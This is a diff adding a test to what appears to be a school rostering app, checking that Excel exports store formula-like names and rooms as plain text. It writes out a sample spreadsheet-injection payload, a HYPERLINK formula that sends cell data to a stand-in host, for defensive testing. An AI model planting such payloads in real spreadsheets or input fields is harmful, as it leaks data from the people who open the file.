@@ -69,3 +69,39 @@ def test_print_page_and_empty_week(client, world, login):
         as_text=True)
     assert _sheet(client.get(f"/exports/roster.xlsx?week={later}")) == [[
         "Date", "Start", "End", "Kind", "Activity", "Series", "Room", "Classes", "Children expected", "Staff"]]
+
+
+HOSTILE = '=HYPERLINK("http://example.invalid/?q="&A1,"点这里")'
+
+
+def _cells(response):
+    assert response.status_code == 200
+    return [list(row) for row in openpyxl.load_workbook(io.BytesIO(response.get_data())).active.iter_rows()]
+
+
+def test_exports_write_formula_like_text_as_text(client, world, login):
+    """Names and rooms starting with = + - @ (OWASP's CSV injection list) come out as the text typed, not formulas;
+    numbers stay numbers."""
+    teacher, other = world.users["teacher"], world.users["class_teacher"]
+    teacher.name, other.name = HOSTILE, "@SUM(1+1)"
+    db.session.add(RosterSettings(school_id=world.own_school.id, subsidy_cents_per_hour=6000))
+    monday = monday_of(local_today())
+    publish_week(world.own_school, monday, [
+        (0, "15:40", "16:40", "after_school", "reading", [teacher.staff_profile], "+1+1", [world.own_class]),
+        (1, "15:40", "17:40", "after_school", "sports", [teacher.staff_profile, other.staff_profile], "-2+3", []),
+    ])
+    week = f"week={monday.isoformat()}"
+    login(world.users["school_admin"])
+    roster = _cells(client.get(f"/exports/roster.xlsx?{week}"))
+    workload = _cells(client.get(f"/exports/workload.xlsx?{week}"))
+    client.post("/account/logout")
+    login(teacher)
+    my_week = _cells(client.get(f"/my-week/export.xlsx?{week}"))
+    written = {cell.value: cell for rows in (roster, workload, my_week) for row in rows for cell in row}
+    for text in (HOSTILE, "@SUM(1+1)", "+1+1", "-2+3"):
+        assert text in written, text
+        assert written[text].data_type == "s", text  # text, where a formula would be "f"
+    assert not [cell for rows in (roster, workload, my_week) for row in rows for cell in row if cell.data_type == "f"]
+    assert isinstance(my_week[1][8].value, int) and my_week[1][8].data_type == "n"
+    staff = roster[2][9].value
+    assert staff.startswith(("=", "@")) and written[staff].data_type == "s"
